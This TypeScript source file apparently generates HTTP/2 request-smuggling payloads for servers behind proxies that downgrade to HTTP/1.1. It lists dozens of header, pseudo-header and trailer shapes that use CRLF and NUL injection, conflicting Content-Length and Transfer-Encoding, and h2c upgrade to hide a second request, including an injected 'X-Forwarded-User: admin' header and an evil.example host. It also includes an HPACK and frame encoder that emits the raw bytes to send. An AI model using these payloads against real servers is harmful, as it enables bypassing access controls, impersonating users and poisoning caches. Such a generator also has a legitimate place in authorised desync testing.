/** Requests of HTTP/2 that say in HTTP/1.1 more than one, or something else, to who translates them as they are. */

type Field = readonly [name: string, value: string];

/** Fields in place of the usual ones; the data behind, and trailers. */
export interface Shape2 {
  method?: string;
  path?: string;
  authority?: string;
  scheme?: string;
  fields?: readonly Field[];
  /** In place of everything above. */
  all?: readonly Field[];
  data?: string;
  trailers?: readonly Field[];
}

const inside = 'x\r\n\r\nGET HIDDEN HTTP/1.1\r\nHost: HOST\r\n\r\n';
const body = 'GET HIDDEN HTTP/1.1\r\nHost: HOST\r\nX-Forwarded-User: admin\r\n\r\n';
const afterChunks = `0\r\n\r\n${body}`;
const pseudo: readonly Field[] = [
  [':method', 'POST'],
  [':scheme', 'http'],
  [':path', 'PATH'],
  [':authority', 'HOST'],
];

const values = [
  inside,
  `x\n\nGET HIDDEN HTTP/1.1\n\n`,
  'x\rTransfer-Encoding: chunked',
  'x\nX-Forwarded-User: admin',
  'x\0y',
  ' x',
];
const fieldNames = [
  ...[
    'x\r\nTransfer-Encoding: chunked\r\ny',
    'x: y\r\nX-Forwarded-User',
    'x y',
    'X-Upper',
    '',
    'x\0',
    'x:y',
    'x\ny',
  ],
];

export const shapes2: readonly Shape2[] = [
  ...values.map((value): Shape2 => ({ fields: [['x-one', value]], data: body })),
  ...fieldNames.map((name): Shape2 => ({ fields: [[name, 'chunked']], data: afterChunks })),
  { fields: [['transfer-encoding', 'chunked']], data: afterChunks },
  {
    fields: [
      ['transfer-encoding', 'chunked'],
      ['content-length', '5'],
    ],
    data: afterChunks,
  },
  { fields: [['Transfer-Encoding', 'chunked']], data: afterChunks },
  { fields: [['content-length', '0']], data: body },
  { fields: [['content-length', '5']], data: `hello${body}` },
  { fields: [['content-length', '500']], data: body },
  { fields: [['content-length', '+5']], data: 'hello' },
  {
    fields: [
      ['content-length', '5'],
      ['content-length', '0'],
    ],
    data: `hello${body}`,
  },
  { fields: [['content-length', '5, 0']], data: 'hello' },
  { fields: [['connection', 'transfer-encoding']], data: afterChunks },
  {
    fields: [
      ['upgrade', 'h2c'],
      ['connection', 'upgrade'],
    ],
    data: body,
  },
  { fields: [['te', 'chunked']], data: afterChunks },
  { fields: [['keep-alive', 'x']], data: body },
  { fields: [['host', 'evil.example']], data: body },
  { method: `GET HIDDEN HTTP/1.1\r\nHost: HOST\r\n\r\nPOST`, data: body },
  { method: 'GET HIDDEN', data: body },
  { path: `PATH HTTP/1.1\r\nHost: HOST\r\n\r\n${body}`, data: body },
  { path: 'PATH HTTP/1.1', data: body },
  { path: 'http://evil.exampleHIDDEN', data: body },
  { path: '', data: body },
  { path: '*', data: body },
  { authority: `HOST\r\n\r\n${body}`, data: body },
  { authority: 'HOSTHIDDEN?', data: body },
  { scheme: `http\r\n\r\n${body}`, data: body },
  { scheme: 'http://HOSTHIDDEN?', data: body },
  { all: [...pseudo, [':path', 'HIDDEN']], data: body },
  { all: [['x-first', '1'], ...pseudo], data: body },
  {
    trailers: [
      ['transfer-encoding', 'chunked'],
      ['x-forwarded-user', 'admin'],
      ['x\r\n\r\nGET HIDDEN HTTP/1.1', 'y'],
    ],
    data: 'hello',
  },
];

function integer(value: number, bits: number, first: number): number[] {
  const most = 2 ** bits - 1;
  if (value < most) return [first | value];
  const bytes = [first | most];
  let rest = value - most;
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 128);
  return [...bytes, rest];
}

/** A literal field without indexing (RFC 7541 §6.2.2), whatever it holds. */
function literal([name, value]: Field): Buffer {
  const text = (of: string) => [
    ...integer(Buffer.byteLength(of, 'latin1'), 7, 0),
    ...Buffer.from(of, 'latin1'),
  ];
  return Buffer.from([0, ...text(name), ...text(value)]);
}

const frameTypes = { data: 0, headers: 1, settings: 4 } as const;

function frame(type: keyof typeof frameTypes, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = frameTypes[type];
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const endStream = 1;
const endHeaders = 4;

/** The bytes of one, on a connection of its own (RFC 9113 §3.4). */
export function bytesOf2(shape: Shape2, host: string, path: string, hidden: string): Buffer {
  const filled = (text: string) =>
    text.replaceAll('HOST', host).replaceAll('PATH', path).replaceAll('HIDDEN', hidden);
  const fields: readonly Field[] = shape.all ?? [
    [':method', shape.method ?? 'POST'],
    [':scheme', shape.scheme ?? 'http'],
    [':path', shape.path ?? 'PATH'],
    [':authority', shape.authority ?? 'HOST'],
    ...(shape.fields ?? []),
  ];
  const block = (of: readonly Field[]) =>
    Buffer.concat(of.map(([name, value]) => literal([filled(name), filled(value)])));
  const { data = '', trailers } = shape;
  const frames = [
    frame('settings', 0, 0, Buffer.alloc(0)),
    frame('headers', endHeaders, 1, block(fields)),
    frame('data', trailers ? 0 : endStream, 1, Buffer.from(filled(data), 'latin1')),
  ];
  if (trailers) frames.push(frame('headers', endHeaders | endStream, 1, block(trailers)));
  return Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), ...frames]);
}
